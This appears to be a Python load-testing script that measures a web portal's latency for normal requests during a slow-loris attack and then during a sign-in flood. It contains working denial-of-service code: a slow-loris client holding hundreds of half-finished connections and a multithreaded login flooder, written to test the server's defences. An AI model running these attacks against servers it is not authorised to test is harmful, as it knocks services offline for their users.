#!/usr/bin/env python3
"""Normal requests while the portal is abused: a slow-loris attack, then a sign-in flood.

    bench/abuse.py --url http://127.0.0.1:3000 [--cookie 'portal_session=…'] [--path /services]

Prints, for each phase, the latency of normal requests (one at a time, each on a fresh
connection, as a person's browser would open them) and what the attackers got. bench/run.sh runs
it against its server after the load runs; it can be pointed at any portal one may attack.
Only the given URL is contacted.
"""
import argparse
import http.client
import socket
import statistics
import threading
import time
import urllib.parse


def normal_requests(url, path, cookie, seconds):
    """Latencies (ms) and statuses of sequential GETs for `seconds`."""
    u = urllib.parse.urlsplit(url)
    latencies, statuses = [], {}
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        started = time.monotonic()
        try:
            c = http.client.HTTPConnection(u.hostname, u.port, timeout=10)
            headers = {"Cookie": cookie} if cookie else {}
            c.request("GET", path, headers=headers)
            r = c.getresponse()
            r.read()
            status = r.status
            c.close()
        except OSError as e:
            status = type(e).__name__
        latencies.append((time.monotonic() - started) * 1000)
        statuses[status] = statuses.get(status, 0) + 1
        time.sleep(0.05)
    return latencies, statuses


def summary(label, latencies, statuses):
    latencies = sorted(latencies)
    p = lambda q: latencies[min(len(latencies) - 1, int(q * len(latencies)))]
    print(
        f"{label:<28} n={len(latencies):<5} p50={statistics.median(latencies):7.1f} ms "
        f"p99={p(0.99):7.1f} ms  max={latencies[-1]:7.1f} ms  statuses={statuses}"
    )


class SlowLoris:
    """`n` connections that send a request's headers one line every few seconds, never ending."""

    def __init__(self, url, n):
        self.u = urllib.parse.urlsplit(url)
        self.n = n
        self.socks = []
        self.opened = 0
        self.cut_off = 0
        self.stop = threading.Event()

    def start(self):
        for _ in range(self.n):
            try:
                s = socket.create_connection((self.u.hostname, self.u.port), timeout=5)
                s.sendall(b"GET /services HTTP/1.1\r\nHost: portal\r\n")
                self.socks.append(s)
                self.opened += 1
            except OSError:
                break
        self.thread = threading.Thread(target=self.drip, daemon=True)
        self.thread.start()

    def drip(self):
        while not self.stop.wait(2):
            for s in list(self.socks):
                try:
                    s.sendall(b"X-Slow: 1\r\n")
                except OSError:
                    # The server closed it: the header timeout at work.
                    self.socks.remove(s)
                    self.cut_off += 1

    def finish(self):
        self.stop.set()
        self.thread.join()
        for s in self.socks:
            s.close()


def login_flood(url, threads, seconds):
    """GET /auth/login as fast as `threads` clients can, without cookies; status counts."""
    u = urllib.parse.urlsplit(url)
    counts, lock = {}, threading.Lock()
    end = time.monotonic() + seconds

    def run():
        c = http.client.HTTPConnection(u.hostname, u.port, timeout=10)
        while time.monotonic() < end:
            try:
                c.request("GET", "/auth/login?next=/")
                r = c.getresponse()
                r.read()
                key = r.status
            except (OSError, http.client.HTTPException) as e:
                key = type(e).__name__
                c.close()
                c = http.client.HTTPConnection(u.hostname, u.port, timeout=10)
            with lock:
                counts[key] = counts.get(key, 0) + 1

    ts = [threading.Thread(target=run, daemon=True) for _ in range(threads)]
    for t in ts:
        t.start()
    return ts, counts


def main():
    a = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
    a.add_argument("--url", required=True)
    a.add_argument("--cookie", default="")
    a.add_argument("--path", default="/healthz", help="the normal request (a page with --cookie)")
    a.add_argument("--slow", type=int, default=500, help="slow-loris connections")
    a.add_argument("--flood-threads", type=int, default=8)
    a.add_argument("--seconds", type=int, default=15, help="per phase")
    o = a.parse_args()

    print(f"normal request: GET {o.path}{' (signed in)' if o.cookie else ''}")
    summary("baseline", *normal_requests(o.url, o.path, o.cookie, o.seconds))

    loris = SlowLoris(o.url, o.slow)
    loris.start()
    lat, st = normal_requests(o.url, o.path, o.cookie, o.seconds)
    open_now = len(loris.socks)
    loris.finish()
    summary(f"with {loris.opened} slow-loris", lat, st)
    print(f"{'':<28} slow connections cut off by the server: {loris.cut_off} of {loris.opened} "
          f"({open_now} still open after {o.seconds} s)")

    threads, counts = login_flood(o.url, o.flood_threads, o.seconds)
    lat, st = normal_requests(o.url, o.path, o.cookie, o.seconds)
    for t in threads:
        t.join()
    summary(f"with a sign-in flood", lat, st)
    total = sum(v for v in counts.values())
    print(f"{'':<28} flood: {total} GET /auth/login from {o.flood_threads} clients "
          f"({total / o.seconds:.0f}/s): {counts}")


if __name__ == "__main__":
    main()
